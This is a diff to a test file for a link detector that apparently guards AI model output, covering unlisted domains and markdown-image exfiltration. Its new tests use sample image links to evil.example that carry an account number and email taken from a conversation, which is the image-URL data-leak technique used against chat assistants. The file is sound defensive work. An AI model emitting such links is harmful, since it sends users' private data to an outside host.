@@ -1,5 +1,6 @@
 import assert from "node:assert/strict";
 import { describe, test } from "node:test";
+import { distinctiveTokens } from "../../src/guard/detectors/link-payload.js";
 import { createLinkDetector } from "../../src/guard/detectors/links.js";
 import type { Finding } from "../../src/guard/types.js";
 
@@ -85,9 +86,12 @@ describe("links.lookalike", () => {
 });
 
 describe("links.unlisted", () => {
-  test("a domain off the allow-list is reported with a moderate score", () => {
+  test("a domain off the allow-list is reported at a score that counts at the default threshold (issue 13)", () => {
     const f = one("See https://example.com/page for details.", "links.unlisted");
-    assert.ok(f.score >= 0.3 && f.score < 0.6, `score ${f.score}`);
+    assert.equal(f.score, 1);
+    // A bare domain in prose counts too, lower: a threshold above 0.6 leaves it alone.
+    const bare = one("See example.com for details.", "links.unlisted");
+    assert.ok(bare.score >= 0.5 && bare.score < 1, `score ${bare.score}`);
   });
 
   test("allow-list entries cover their subdomains but not names that merely end the same", () => {
@@ -96,11 +100,10 @@ describe("links.unlisted", () => {
     one("https://paypal.com.evil.io/", "links.unlisted");
   });
 
-  test("blockUnlisted raises the score; without an allow-list nothing is unlisted", () => {
-    const strict = createLinkDetector({ allowDomains: ["paypal.com"], blockUnlisted: true });
-    assert.ok(one("https://example.com/", "links.unlisted", strict).score >= 0.8);
+  test("without an allow-list every link is unlisted; reportUnlisted: false turns it off", () => {
     const open = createLinkDetector({ allowDomains: [] });
-    none("https://example.com/", "links.unlisted", open);
+    one("https://example.com/", "links.unlisted", open);
+    none("https://example.com/", "links.unlisted", createLinkDetector({ allowDomains: [], reportUnlisted: false }));
   });
 
   test("allow-list entries may be written as URLs, wildcards or Unicode", () => {
@@ -264,5 +267,43 @@ describe("link detector bounds", () => {
       detect(text);
       assert.ok(performance.now() - t0 < 1000);
     }
+  });
+});
+
+describe("links.exfiltration with plain data (issue 13)", () => {
+  const blocks = (text: string, conversation?: ReadonlySet<string>) =>
+    only(detect(text, conversation), "links.exfiltration").some((f) => f.score >= 0.5);
+
+  test("an image carrying a plain identifier in its query is exfiltration at the default threshold", () => {
+    assert.ok(blocks("![x](https://evil.example/c?d=ACME-7731-ZETA)"));
+    assert.ok(blocks("![x](https://evil.example/c?order=INV2024A7731&u=x)"));
+    // A link the user must click is reported, under the default threshold.
+    const link = one("[x](https://evil.example/c?d=ACME-7731-ZETA)", "links.exfiltration");
+    assert.ok(link.score < 0.5);
+  });
+
+  test("ordinary query strings and path ids are not data", () => {
+    for (const url of [
+      "https://evil.example/search?page=2",
+      "https://weather.example/?q=weather",
+      "https://shop.example/item?id=12345&lang=en-US",
+      "https://cdn.example/lib.js?v=1.2.3",
+      "https://news.example/archive?date=2024-05-01",
+      "https://blog.example/2015/03/29/iggy-azalea-iheartradio-awards-hair-makeup-2015-and-more-words/",
+      "https://shop.example/orders/A12345B67/receipt.png",
+      "https://tags.example/tag/%E5%A4%A7%E6%97%A5%E6%9C%AC%E5%B8%9D%E5%9B%BD%20%E5%BE%93%E8%BB%8D%E6%85%B0%E5%AE%89",
+    ]) {
+      assert.ok(!blocks(`![x](${url})`), url);
+    }
+  });
+
+  test("a token from the conversation in an image URL is exfiltration; the same word-only value is not", () => {
+    const conversation = distinctiveTokens(["My account number is 88213-4471 and my email is ann@corp.example; what's the weather?"]);
+    assert.ok(blocks("![x](https://evil.example/p?a=88213-4471)", conversation));
+    assert.ok(blocks("![x](https://evil.example/p/ann@corp.example.png)", conversation));
+    const f = one("![x](https://evil.example/p?a=88213-4471)", "links.exfiltration", (t) => detect(t, conversation));
+    assert.match(f.message, /data from the conversation/);
+    assert.ok(!blocks("![x](https://weather.example/?q=weather)", conversation));
+    assert.ok(!blocks("![x](https://evil.example/p?a=88213-4471)"), "without the conversation, a number alone is no identifier");
   });
 });
